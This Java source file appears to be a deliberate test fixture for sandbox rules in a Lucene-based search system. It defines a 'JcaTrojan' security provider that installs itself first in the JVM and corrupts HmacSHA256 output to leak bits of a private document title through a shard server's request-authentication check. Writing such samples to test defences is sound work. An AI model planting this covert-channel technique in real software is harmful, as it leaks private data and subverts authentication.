package org.maat.core.search;

import java.io.IOException;
import java.security.InvalidAlgorithmParameterException;
import java.security.InvalidKeyException;
import java.security.Key;
import java.security.NoSuchAlgorithmException;
import java.security.NoSuchProviderException;
import java.security.Provider;
import java.security.Security;
import java.security.spec.AlgorithmParameterSpec;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.MacSpi;
import org.apache.lucene.index.Term;
import org.apache.lucene.search.IndexSearcher;
import org.apache.lucene.search.TermQuery;
import org.apache.lucene.search.TopDocs;
import org.maat.core.index.IndexFields;
import org.maat.core.task.TaskContext;

/**
 * Buggy search-task code a reviewer wrote (it installed a security provider the shard server's request check then ran), in a task
 * package so that the rules on task code apply to it ({@code JcaTrojanRulesTest}): it installs a Java security
 * provider of its own, first in the JVM's list ({@link Security#insertProviderAt}: JVM-wide state that neither
 * {@code LibraryState} pins nor any rule names), whose {@code HmacSHA256} is Java's own with one byte changed while
 * the provider's bit is 1. A later task finds the same provider by name ({@link Security#getProvider}) and sets its bit
 * to one bit of a private title. Every later {@code Mac.getInstance("HmacSHA256")} of the JVM runs this code: the
 * shard server's check of the next request ({@code ShardRequestAuth.verify}), whoever sent it. No static field, no
 * thread, no reflection: the JCA instantiates the service through {@link Provider.Service#newInstance}, overridden.
 */
public final class JcaTrojan extends Provider {

    private static final long serialVersionUID = 1L;
    public static final String NAME = "MaatReviewJca";

    private final Provider.Service mac;
    private volatile boolean bit;
    private int calls;

    private JcaTrojan() {
        super(NAME, "1.0", "review");
        JcaTrojan self = this;
        mac = new Provider.Service(this, "Mac", "HmacSHA256", "org.maat.core.search.JcaTrojan$SpoiledMac", null, null) {
            @Override
            public Object newInstance(Object constructorParameter) throws NoSuchAlgorithmException {
                return new SpoiledMac(self);
            }
        };
    }

    @Override
    public synchronized Provider.Service getService(String type, String algorithm) {
        return "Mac".equalsIgnoreCase(type) && "HmacSHA256".equalsIgnoreCase(algorithm) ? mac : null;
    }

    @Override
    public synchronized Set<Provider.Service> getServices() {
        return Set.of(mac);
    }

    private synchronized int nextCall() {
        return ++calls;
    }

    /**
     * The buggy task: reads bit {@code bitIndex} of document {@code secretId}'s stored title (0 when negative) and
     * leaves it in the JVM's first security provider, installing the provider the first time.
     */
    public static void leave(TaskContext ctx, String secretId, int bitIndex) throws IOException {
        boolean value = false;
        if (bitIndex >= 0) {
            String title = storedTitle(ctx, secretId);
            value = bitIndex / 8 < title.length() && (title.charAt(bitIndex / 8) >> (bitIndex % 8) & 1) == 1;
        }
        JcaTrojan provider;
        if (Security.getProvider(NAME) instanceof JcaTrojan known) {
            provider = known;
        } else {
            provider = new JcaTrojan();
            Security.insertProviderAt(provider, 1);
        }
        provider.bit = value;
    }

    private static String storedTitle(TaskContext ctx, String id) throws IOException {
        for (int shard = 0; shard < ctx.searchers().shards(); shard++) {
            IndexSearcher searcher = ctx.searchers().searcher(shard);
            TopDocs top = searcher.search(new TermQuery(new Term(IndexFields.ID, id)), 1);
            if (top.scoreDocs.length > 0) {
                return searcher.storedFields().document(top.scoreDocs[0].doc).get(IndexFields.TITLE);
            }
        }
        return "";
    }

    /** Java's own HmacSHA256, with its first byte changed (differently on every call) while the bit is 1. */
    static final class SpoiledMac extends MacSpi {
        private final JcaTrojan provider;
        private final Mac real;

        SpoiledMac(JcaTrojan provider) throws NoSuchAlgorithmException {
            this.provider = provider;
            try {
                this.real = Mac.getInstance("HmacSHA256", "SunJCE");
            } catch (NoSuchProviderException e) {
                throw new NoSuchAlgorithmException("no SunJCE");
            }
        }

        @Override
        protected int engineGetMacLength() {
            return real.getMacLength();
        }

        @Override
        protected void engineInit(Key key, AlgorithmParameterSpec params)
                throws InvalidKeyException, InvalidAlgorithmParameterException {
            real.init(key, params);
        }

        @Override
        protected void engineUpdate(byte input) {
            real.update(input);
        }

        @Override
        protected void engineUpdate(byte[] input, int offset, int len) {
            real.update(input, offset, len);
        }

        @Override
        protected byte[] engineDoFinal() {
            byte[] out = real.doFinal();
            if (provider.bit) {
                out[0] ^= (byte) provider.nextCall();
            }
            return out;
        }

        @Override
        protected void engineReset() {
            real.reset();
        }
    }
}
